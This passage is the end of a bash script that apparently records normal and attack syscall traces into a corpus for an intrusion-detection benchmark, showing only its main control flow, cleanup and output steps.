    [ "${KEEP_RAW:-0}" = 1 ] || rm -rf "$RAW"
}

# ------------------------------------------------------------------ main ----
[ "${BASH_SOURCE[0]}" = "$0" ] || return 0     # sourced: functions only (for testing)
[ "$(id -u)" = 0 ] || { echo "run as root" >&2; exit 1; }
trap cleanup EXIT
trap 'exit 130' INT TERM
T_START=$SECONDS
install_deps
setup
start_servers
for p in $PHASES; do
    case $p in
    normal) rm -rf "$OUT/train" "$OUT/validation" "$RAW/normal"; record_normal ;;
    attack) [ -z "${ATTACKS_ONLY:-}" ] && rm -rf "$OUT/attack" "$RAW/attack"; record_attacks ;;
    esac
done
# same declaration as Benchmarks/linux-corpus/record.sh
echo '{"syscalls": "linux-x86_64"}' > "$OUT/corpus.json"
log "done in $((SECONDS - T_START))s"
summary
